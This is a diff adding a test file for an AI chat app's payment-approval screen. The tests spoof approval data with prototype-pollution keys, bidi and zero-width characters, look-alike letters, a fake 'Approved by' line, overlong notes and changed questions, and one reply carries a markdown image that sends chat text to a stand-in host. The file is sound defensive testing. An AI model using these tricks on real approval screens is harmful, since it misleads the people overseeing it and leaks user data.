@@ -1,0 +1,349 @@
+/** Inputs and questions that are made to deceive: what is shown is what would run. */
+import type { Page } from 'playwright-core';
+import { expect, onTestFinished, test } from 'vitest';
+import { barriers } from './looks.ts';
+import { BY_TIMER, startServer, Visitor, type VisitorOptions, withBrowser } from './visitor.ts';
+
+withBrowser();
+
+interface Told {
+  /** In JSON, as it stands. */
+  input?: string;
+  question?: string;
+  toolName?: string;
+  digest?: string;
+}
+
+/**
+ * Has the page told something else of what waits than the server says. The server refuses much of this
+ * before it asks; a page must not depend on that.
+ */
+async function tell(page: Page, told: Told): Promise<void> {
+  const { input, ...rest } = told;
+  const changed = (approval: object) => {
+    const text = JSON.stringify({ ...approval, ...rest, ...(input && { input: '<input>' }) });
+    return input === undefined ? text : text.replace('"<input>"', () => input);
+  };
+  await page.route(/\/api\/approvals(?:\/[^/]+)?$/, async route => {
+    if (route.request().method() !== 'GET') {
+      return route.fallback();
+    }
+    const response = await route.fetch();
+    if (!response.ok()) {
+      return route.fulfill({ response });
+    }
+    const body = await response.json();
+    const text = Array.isArray(body.approvals)
+      ? `{"approvals":[${body.approvals.map(changed).join(',')}]}`
+      : changed(body);
+    return route.fulfill({ status: 200, contentType: 'application/json', body: text });
+  });
+}
+
+/** Somebody who is asked about a payment, and told something else. */
+async function askedAbout(told: Told, options: VisitorOptions = {}): Promise<Visitor> {
+  const server = await startServer({ sdk: 7 });
+  await server.tell('c', 'u1', 'Send $20 to Sam');
+  const visitor = await Visitor.at('about:blank', options);
+  onTestFinished(() => visitor.page.unrouteAll({ behavior: 'ignoreErrors' }));
+  await tell(visitor.page, told);
+  await visitor.page.goto(`${server.url}#chat=c`);
+  return visitor;
+}
+
+const card = ({ page }: Visitor) => page.getByRole('log').locator('.approval');
+const approve = (visitor: Visitor) => card(visitor).getByRole('button', { name: 'Approve' });
+
+test('names of the prototype are names: the page stands, and stands after a reload', async () => {
+  const visitor = await askedAbout({
+    toolName: 'constructor',
+    input: '{"__proto__":{"a":1},"constructor":"c","toString":"t","hasOwnProperty":3,"amount":20}',
+  });
+  const { page } = visitor;
+  // The chat itself has them, too.
+  await page.route('**/api/chat/c', async route => {
+    const text = await (await route.fetch()).text();
+    const body = text
+      .replaceAll('"tool-process_payment"', '"tool-constructor"')
+      .replaceAll('"input":{', '"input":{"__proto__":{"x":1},"toString":2,');
+    return route.fulfill({ status: 200, contentType: 'application/json', body });
+  });
+  for (let time = 0; time < 2; time++) {
+    await page.reload();
+    const names = card(visitor).locator('dt');
+    await names.getByText('__proto__').waitFor();
+    await names.getByText('constructor').waitFor();
+    await names.getByText('toString').waitFor();
+    await names.getByText('hasOwnProperty').waitFor();
+    // No word of the page's stands beside one of them.
+    const shown = await names.allInnerTexts();
+    expect(shown.filter(name => name.includes('function') || name.includes('['))).toEqual([]);
+    await page.getByLabel('Message', { exact: true }).waitFor();
+  }
+  await page.getByRole('button', { name: /^Inbox/ }).click();
+  await page.getByRole('complementary').getByText('hasOwnProperty').waitFor();
+});
+
+test('a question that can’t be shown can only be denied, and takes nothing else with it', async () => {
+  const deep = `${'{"a":'.repeat(300)}1${'}'.repeat(300)}`;
+  const visitor = await askedAbout({ input: `{"amount":20,"note":${deep}}` });
+  const { page } = visitor;
+  await card(visitor).getByText('This question can’t be shown').waitFor();
+  expect(await page.getByRole('button', { name: 'Approve' }).count()).toBe(0);
+  await card(visitor).getByRole('button', { name: 'Deny' }).click();
+  await visitor.seesCards('process_payment: denied');
+  await visitor.says('What is the weather in London?');
+  await visitor.reads(/12°C/);
+});
+
+test('what is not to be seen is written out, and what only looks right is marked', async () => {
+  const visitor = await askedAbout({
+    question: 'Send 20 USD to \u202emaS\u202c?\u200b',
+    toolName: 'process_pаyment',
+    input: JSON.stringify({
+      amount: 20,
+      recipient: 'Sam\u200b\u200b',
+      bank: 'Раураl',
+      other: 'ѕаѕо',
+      account: 'a\nApproved by: Alice',
+      greeting: 'Привет, мир',
+      name: '山田 Taro さん',
+      empty: '',
+      nothing: null,
+      none: {},
+      spaced: ' x',
+    }),
+  });
+  const text = card(visitor).locator('dl');
+  const field = (name: string) =>
+    text.locator('div', { has: visitor.page.locator('dt', { hasText: new RegExp(`^${name}$`) }) });
+  await card(visitor)
+    .getByRole('heading', { name: 'Send 20 USD to \\u202EmaS\\u202C?\\u200B' })
+    .waitFor();
+  expect(await field('recipient').locator('dd').innerText()).toBe('Sam\\u200B×2');
+  expect(await field('account').locator('dd').innerText()).toBe('a\\nApproved by: Alice');
+  expect(await field('spaced').locator('dd').innerText()).toBe('␣x');
+  const turning = field('greeting').locator('dd .untrusted');
+  expect(await turning.evaluate(it => getComputedStyle(it).unicodeBidi)).toBe('isolate');
+  expect(await field('bank').locator('dd').innerText()).toMatch(/mixed scripts: .*Cyrillic/);
+  expect(await field('other').locator('dd').innerText()).toMatch(/looks like Latin letters/);
+  expect(await card(visitor).locator('code').innerText()).toMatch(/mixed scripts/);
+  for (const honest of ['greeting', 'name']) {
+    expect(await field(honest).locator('mark').count(), honest).toBe(0);
+  }
+  expect(await field('empty').locator('dd').innerText()).toBe('(empty: "")');
+  expect(await field('nothing').locator('dd').innerText()).toBe('(empty: null)');
+  expect(await field('none').locator('dd').innerText()).toBe('(empty: {})');
+  await visitor.photographs('deceiving');
+  expect(await barriers(visitor.page)).toEqual([]);
+});
+
+test('numbers are shown to the last digit, and survive the edit of another field', async () => {
+  const input =
+    '{"amount":9007199254740993,"rate":0.10000000000000000001,"list":[1.0],"recipient":"Sam"}';
+  const visitor = await askedAbout({ input });
+  const { page } = visitor;
+  await card(visitor).getByText('9007199254740993', { exact: true }).waitFor();
+  await card(visitor).getByText('0.10000000000000000001', { exact: true }).waitFor();
+  await card(visitor).getByRole('button', { name: 'Edit' }).click();
+  await page.getByLabel('recipient').fill('Ann "A" \\');
+  const sent = page.waitForRequest(request => request.method() === 'POST');
+  await visitor.consents(page.getByRole('button', { name: 'Approve this' }));
+  expect((await sent).postData()).toContain(
+    '"input":{"amount":9007199254740993,"rate":0.10000000000000000001,"list":[1.0],"recipient":"Ann \\"A\\" \\\\"}',
+  );
+});
+
+test('a field is edited as what it is', async () => {
+  const visitor = await askedAbout({ input: '{"amount":20,"recipient":"1","urgent":true}' });
+  const { page } = visitor;
+  await card(visitor).getByRole('button', { name: 'Edit' }).click();
+  for (const [name, text, problem] of [
+    ['amount', '"20"', 'This has to be a number, as in JSON.'],
+    ['amount', '0x14', 'This has to be a number, as in JSON.'],
+    ['urgent', '1', 'This has to be true or false.'],
+  ] as const) {
+    const before = await page.getByLabel(name).inputValue();
+    await page.getByLabel(name).fill(text);
+    await visitor.presses(page.getByRole('button', { name: 'Approve this' }));
+    await page.getByRole('alert').getByText(problem).waitFor();
+    await page.getByLabel(name).fill(before);
+  }
+  await page.getByLabel('recipient').fill('2');
+  const sent = page.waitForRequest(request => request.method() === 'POST');
+  await visitor.consents(page.getByRole('button', { name: 'Approve this' }));
+  expect((await sent).postData()).toContain('"recipient":"2"');
+});
+
+test('an input that is no object is shown whole', async () => {
+  const visitor = await askedAbout({ input: '[500,"Mallory","USD",""]' });
+  await card(visitor).getByText('"Mallory"').waitFor();
+  await card(visitor).getByText('500').waitFor();
+  expect(await card(visitor).getByRole('button', { name: 'Edit' }).count()).toBe(0);
+});
+
+const looks: [string, VisitorOptions][] = [
+  ['desktop', { viewport: { width: 1280, height: 800 } }],
+  ['phone', { viewport: { width: 390, height: 664 }, hasTouch: true, isMobile: true }],
+];
+
+test.each(looks)('a long note pushes nothing out of sight: %s', async (name, look) => {
+  const note = `Thanks for lunch. ${'All is fine. '.repeat(4_000)}`;
+  const visitor = await askedAbout(
+    {
+      input: JSON.stringify({
+        description: note,
+        amount: 20,
+        recipient: 'Mallory',
+        currency: 'USD',
+      }),
+    },
+    look,
+  );
+  const isInSight = async () => {
+    const { height = 0 } = visitor.page.viewportSize() ?? {};
+    for (const part of [
+      card(visitor).getByRole('heading', { name: 'Send 20 USD to Sam?' }),
+      card(visitor).getByText('20', { exact: true }),
+      card(visitor).getByText('Mallory'),
+      approve(visitor),
+      card(visitor).getByRole('button', { name: 'Deny' }),
+    ]) {
+      const box = await part.boundingBox();
+      expect(box?.y).toBeGreaterThan(0);
+      expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(height);
+      expect(
+        await part.evaluate(it => {
+          const { left, top, width, height } = it.getBoundingClientRect();
+          const hit = document.elementFromPoint(left + width / 2, top + height / 2);
+          return it.contains(hit) || hit?.contains(it);
+        }),
+      ).toBe(true);
+    }
+  };
+  await approve(visitor).and(visitor.page.locator('[aria-disabled=false]')).waitFor();
+  await visitor.photographs(`long-note-${name}`);
+  await isInSight();
+  await card(visitor).getByRole('button', { name: 'Show all, 52 kB' }).click();
+  await visitor.photographs(`long-note-open-${name}`);
+  await approve(visitor).waitFor();
+  expect(await barriers(visitor.page)).toEqual([]);
+  await card(visitor).getByRole('button', { name: 'Show less' }).click();
+  await isInSight();
+});
+
+test('a long question has to be read to its end', async () => {
+  const question = `Send 20 USD to Sam? ${'It is for lunch. '.repeat(120)}And 5,000 USD to Mallory?`;
+  const visitor = await askedAbout({ question }, { viewport: { width: 390, height: 664 } });
+  await card(visitor).locator('.question[tabindex]').waitFor();
+  await visitor.photographs('long-question');
+  // Until something else that takes as long has happened, it is not armed.
+  await visitor.page.waitForFunction(
+    from => performance.now() - from > 1_000,
+    await visitor.page.evaluate(() => performance.now()),
+    BY_TIMER,
+  );
+  expect(await approve(visitor).getAttribute('aria-disabled')).toBe('true');
+  await card(visitor)
+    .locator('.question')
+    .evaluate(it => it.scrollTo(0, it.scrollHeight));
+  await approve(visitor).and(visitor.page.locator('[aria-disabled=false]')).waitFor();
+});
+
+test('in Japanese the question stays as it was asked, in the chat and in the inbox', async () => {
+  const visitor = await askedAbout(
+    { question: 'Send 20 USD to Sam, for a fee of 500 USD?' },
+    { locale: 'ja-JP', viewport: { width: 1280, height: 800 } },
+  );
+  const { page } = visitor;
+  await page.getByRole('button', { name: /^受信箱/ }).click();
+  for (const place of [page.getByRole('log'), page.getByRole('complementary')]) {
+    const heading = place.getByRole('heading', { name: /for a fee of 500 USD\?$/ });
+    await heading.waitFor();
+    expect(await heading.getAttribute('lang')).toBe('en');
+    await place.getByText('参考訳: Sam に $20 を送金').waitFor();
+  }
+  await visitor.photographs('question-ja');
+  expect(await barriers(page)).toEqual([]);
+});
+
+test('a picture at another site that a model names is not loaded', async () => {
+  const server = await startServer({ sdk: 7 });
+  await server.tell('c', 'u1', 'Hello');
+  const visitor = await Visitor.at('about:blank');
+  const { page } = visitor;
+  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
+  await page.route('**/api/chat/c', async route => {
+    const text = await (await route.fetch()).text();
+    const picture = '![a picture](http://elsewhere.example/p.png?said=hello)';
+    const body = text.replace('"text":"You said', `"text":"${picture} You said`);
+    expect(body).not.toBe(text);
+    return route.fulfill({ status: 200, contentType: 'application/json', body });
+  });
+  await page.goto(`${server.url}#chat=c`);
+  await visitor.reads(/a picture/);
+  await visitor.reads(/You said/);
+  // Neither asked for, nor kept from being asked for by the policy alone.
+  expect(visitor.foreign.filter(url => url.includes('elsewhere'))).toEqual([]);
+});
+
+test('a question that has changed is shown afresh, and has to be read again', async () => {
+  const server = await startServer({ sdk: 7 });
+  await server.tell('c', 'u1', 'Send $20 to Sam');
+  const visitor = await Visitor.at('about:blank');
+  const { page } = visitor;
+  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
+  // As it was asked once: the server has it otherwise by now.
+  await tell(page, { question: 'Send 2 USD to Sam?', digest: '0'.repeat(64) });
+  await page.goto(`${server.url}#chat=c`);
+  await card(visitor).getByRole('heading', { name: 'Send 2 USD to Sam?' }).waitFor();
+  await visitor.consents(approve(visitor));
+
+  await card(visitor).getByText('The question has changed since you were shown it.').waitFor();
+  await card(visitor).getByRole('heading', { name: 'Send 20 USD to Sam?' }).waitFor();
+  await visitor.sees('$1,000');
+  await visitor.photographs('changed');
+  await visitor.consents(approve(visitor));
+  await visitor.seesCards('process_payment: done');
+  await visitor.sees('$980');
+});
+
+test('the inbox shows a question that has changed afresh, too', async () => {
+  const server = await startServer({ sdk: 7 });
+  await server.tell('c', 'u1', 'Send $20 to Sam');
+  const visitor = await Visitor.at('about:blank');
+  const { page } = visitor;
+  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
+  await tell(page, { question: 'Send 2 USD to Sam?', digest: '0'.repeat(64) });
+  await page.goto(server.url);
+  await page.getByRole('button', { name: 'Inbox, 1 waiting' }).click();
+  const panel = page.getByRole('complementary');
+  await panel.getByRole('heading', { name: 'Send 2 USD to Sam?' }).waitFor();
+  const answered = page.waitForResponse(response => response.request().method() === 'POST');
+  await visitor.consents(panel.getByRole('button', { name: 'Approve' }));
+  expect((await answered).status()).toBe(409);
+  await page.unrouteAll({ behavior: 'ignoreErrors' });
+  await panel.getByRole('heading', { name: 'Send 20 USD to Sam?' }).waitFor();
+  await panel.getByText('The question has changed since you were shown it.').waitFor();
+  await visitor.consents(panel.getByRole('button', { name: 'Approve' }));
+  await visitor.sees('$980');
+});
+
+test.each([6, 7] as const)(
+  'every answer brings the digest of what was shown: AI SDK %i',
+  async sdk => {
+    for (const transport of ['sse', 'bidi'] as const) {
+      const server = await startServer({ sdk });
+      const visitor = await Visitor.at(server.url, { transport });
+      const { page } = visitor;
+      await visitor.says('Send $20 to Sam');
+      await visitor.seesCards('process_payment: asked');
+      await visitor.sawTheEnd();
+      const [{ digest = 'none' } = {}] = await server.approvals();
+      const sent = page.waitForRequest(request => request.method() === 'POST');
+      await visitor.approves();
+      expect((await sent).postDataJSON()).toEqual({ approved: true, digest });
+      await visitor.seesCards('process_payment: done');
+    }
+  },
+);
